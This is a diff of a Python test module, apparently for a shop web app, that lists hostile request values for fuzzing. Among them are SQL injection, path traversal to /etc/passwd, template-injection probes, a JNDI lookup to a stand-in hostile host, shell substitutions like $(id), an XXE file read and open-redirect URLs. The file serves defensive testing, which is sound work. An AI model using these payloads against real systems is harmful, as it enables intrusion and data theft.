@@ -1,134 +1,63 @@
-"""What nobody who means well would send: values for any place of a request, as bytes."""
+"""Hostile values for any place of a request, as bytes."""
 
 from tests.malicious_input import STRINGS
 from tests.page_checks import CANARY
 
 NUMBERS = (
-    *("-1", "0", "-0", "+1", " 1 ", "1.5", "1e9", "1e309", "NaN", "Infinity", "0x10", "1_000", "1,000", "٣", "１", "²"),
-    *("2147483647", "2147483648", "9223372036854775807", "9223372036854775808", "9" * 40, "9" * 5000, "-" + "9" * 30),
-    *("true", "null", "None", "undefined", "[]", "{}", "on", ""),
+    *("-1", "0", "-0", "+1", " 1 ", "1.5", "1e9", "1e309", "NaN", "Infinity", "0x10", "1_000", "1,000", "٣", "１"),
+    *("²", "2147483647", "2147483648", "9223372036854775807", "9223372036854775808", "9" * 40, "9" * 5000),
+    *("-" + "9" * 30, "true", "null", "None", "undefined", "[]", "{}", "on", ""),
 )
 DATES = (
     *("2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-13-01", "1969-12-31", "-2026-01-01"),
-    *(
-        "2026-11-24T25:61:00",
-        "2026-W48-1",
-        "24/11/2026",
-        "２０２６-11-24",
-        "2026-11-24\x00",
-        "0001-01-01T00:00:00+23:59",
-    ),
+    *("2026-11-24T25:61:00", "2026-W48-1", "24/11/2026", "２０２６-11-24", "2026-11-24\x00"),
+    "0001-01-01T00:00:00+23:59",
 )
 PATHS = (
     *("../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/wsgi.py", "....//....//etc/passwd"),
-    *(
-        "/etc/passwd",
-        "\\\\hostile.example\\x",
-        "..\\..\\wsgi.py",
-        "C:\\boot.ini",
-        "file:///etc/passwd",
-        ".",
-        "..",
-        "//",
-    ),
-    *("img/../../shop/config.py", "img/logo.svg\x00.png", "css/", "~root", "con", "%00", "%", "%zz", "%u0041", "a;b=c"),
+    *("/etc/passwd", "\\\\hostile.example\\x", "..\\..\\wsgi.py", "C:\\boot.ini", "file:///etc/passwd", ".", ".."),
+    *("//", "img/../../shop/config.py", "img/logo.svg\x00.png", "css/", "~root", "con", "%00", "%", "%zz", "%u0041"),
+    "a;b=c",
 )
 QUERIES = (
-    *(
-        "' OR '1'='1",
-        "1; SELECT pg_sleep(5)--",
-        "1 UNION SELECT password FROM merchant--",
-        "x' AND 1=CAST('a' AS int)--",
-    ),
-    *("%", "_", "%_%_%", "\\", "'", '"', "''", "*", "(", ")", "a & b | c", "!", "NEAR(", "* *", "-" * 50),
-    *(
-        "{{config}}",
-        "{{''.__class__.__mro__}}",
-        "{%import os%}",
-        "${jndi:ldap://hostile.example/a}",
-        "$(id)",
-        "`id`",
-        "|id",
-    ),
+    *("' OR '1'='1", "1; SELECT pg_sleep(5)--", "1 UNION SELECT password FROM merchant--"),
+    *("x' AND 1=CAST('a' AS int)--", "%", "_", "%_%_%", "\\", "'", '"', "''", "*", "(", ")", "a & b | c", "!"),
+    *("NEAR(", "* *", "-" * 50, "{{config}}", "{{''.__class__.__mro__}}", "{%import os%}"),
+    *("${jndi:ldap://hostile.example/a}", "$(id)", "`id`", "|id"),
 )
 BYTES = (
     *(b"\x00", b"a\x00b", b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80" * 30),
-    *(
-        "é".encode("latin-1"),
-        "hostile".encode("utf-16"),
-        "\ufeffx".encode(),
-        b"\r\n",
-        b"\r\nX-Hostile: yes",
-        b"\x1b]0;x\x07",
-    ),
+    *("é".encode("latin-1"), "hostile".encode("utf-16"), "\ufeffx".encode(), b"\r\n", b"\r\nX-Hostile: yes"),
+    b"\x1b]0;x\x07",
 )
 SIZES = (b"a" * 300, b"<" * 2000, b" " * 5000, b"\n" * 5000, "é".encode() * 9000, b"hostile " * 9000, b"a" * 140_000)
 OBJECTS = (
-    *(
-        b"{}",
-        b"[]",
-        b"null",
-        b"1e999",
-        b'{"a":',
-        b"[" * 20_000,
-        b'{"a":' * 5_000,
-        b'{"a":1,"a":2}',
-        b'"\\ud800"',
-        b"NaN",
-    ),
-    *(
-        b'{"__proto__":{"x":1}}',
-        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
-    ),
+    *(b"{}", b"[]", b"null", b"1e999", b'{"a":', b"[" * 20_000, b'{"a":' * 5_000, b'{"a":1,"a":2}', b'"\\ud800"'),
+    *(b"NaN", b'{"__proto__":{"x":1}}'),
+    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
 )
 SUMS = (
-    *("1" + ",000" * 2000, "KSh 1" + " 000" * 2000, "1,000,000,000,000,000", "0,000", "1.00", "KSh", "1250.5", "٣,٣٣٣"),
-    "SKA1B2C3D4 Confirmed. Ksh9" + ",999" * 230 + ".00 sent on 99/99/99 at 99:99 PM",
+    *("1" + ",000" * 2000, "KSh 1" + " 000" * 2000, "1,000,000,000,000,000", "0,000", "1.00", "KSh", "1250.5"),
+    *("٣,٣٣٣", "SKA1B2C3D4 Confirmed. Ksh9" + ",999" * 230 + ".00 sent on 99/99/99 at 99:99 PM"),
     "SKA1B2C3D4 Confirmed. Ksh1.00 received from <hostile> 0712345678 on 31/2/26 at 0:00 AM",
 )
 ADDRESSES = (
-    *(
-        "//hostile.example",
-        "///hostile.example",
-        "/\\hostile.example",
-        "https:hostile.example",
-        "http://hostile.example/",
-    ),
-    *(
-        "https://localhost@hostile.example",
-        "/admin/../../hostile.example",
-        "/admin/\t/hostile.example",
-        "javascript:hostile()",
-    ),
-    *(
-        "/admin//hostile.example",
-        "/admin/%2f%2fhostile.example",
-        "http://[",
-        "http://[::1",
-        "//",
-        "/admin/?next=//hostile.example",
-    ),
+    *("//hostile.example", "///hostile.example", "/\\hostile.example", "https:hostile.example"),
+    *("http://hostile.example/", "https://localhost@hostile.example", "/admin/../../hostile.example"),
+    *("/admin/\t/hostile.example", "javascript:hostile()", "/admin//hostile.example", "/admin/%2f%2fhostile.example"),
+    *("http://[", "http://[::1", "//", "/admin/?next=//hostile.example"),
 )
 
 VALUES: tuple[bytes, ...] = (
     *(text.encode() for text in (*STRINGS, CANARY, *NUMBERS, *DATES, *PATHS, *QUERIES, *SUMS, *ADDRESSES)),
-    *BYTES,
-    *SIZES,
-    *OBJECTS,
+    *(*BYTES, *SIZES, *OBJECTS),
 )
 
 # Header names with what is put into them. A server hands header values on as Latin-1.
 HEADERS: dict[str, tuple[str, ...]] = {
     "Host": (
-        "hostile.example",
-        "localhost:99999",
-        "localhost:x",
-        "a b",
-        "[::1",
-        "",
-        "localhost, hostile.example",
-        "x" * 300,
-        "%",
+        *("hostile.example", "localhost:99999", "localhost:x", "a b", "[::1", "", "localhost, hostile.example"),
+        *("x" * 300, "%"),
     ),
     "X-Forwarded-Host": ("hostile.example", "hostile.example, localhost", '"><hostile>'),
     "X-Forwarded-Proto": ("https", "javascript", "hostile", ","),
@@ -138,13 +67,8 @@ HEADERS: dict[str, tuple[str, ...]] = {
     "X-HTTP-Method-Override": ("DELETE", "hostile"),
     "Forwarded": ("for=hostile;host=hostile.example;proto=https", ";;;="),
     "Cookie": (
-        "session=",
-        "session=hostile",
-        "session=.eJx.x.y",
-        "session=\x00",
-        "a=b; " * 3000,
-        "session=" + "x" * 90_000,
-        "\xff",
+        *("session=", "session=hostile", "session=.eJx.x.y", "session=\x00", "a=b; " * 3000),
+        *("session=" + "x" * 90_000, "\xff"),
     ),
     "Referer": (*ADDRESSES, 'http://localhost/admin/"><hostile>', "\xff\xfe"),
     "Origin": ("null", "http://hostile.example", "http://[", "hostile"),
@@ -163,13 +87,9 @@ HEADERS: dict[str, tuple[str, ...]] = {
 }
 CONTENT_TYPES = (
     *("application/json", "text/plain", "text/xml", "application/octet-stream", "", "hostile", "/", ";", "\xff"),
-    *(
-        "multipart/form-data",
-        "multipart/form-data; boundary=",
-        'multipart/form-data; boundary="',
-        "multipart/form-data; boundary=hostile",
-    ),
-    *("application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded; charset=hostile"),
+    *("multipart/form-data", "multipart/form-data; boundary=", 'multipart/form-data; boundary="'),
+    *("multipart/form-data; boundary=hostile", "application/x-www-form-urlencoded; charset=utf-16"),
+    "application/x-www-form-urlencoded; charset=hostile",
 )
 COLUMNS = (
     *("Slug", "Name", "Category", "Description", "Option 1", "Option 2", "Option 3", "Archived", "Images"),
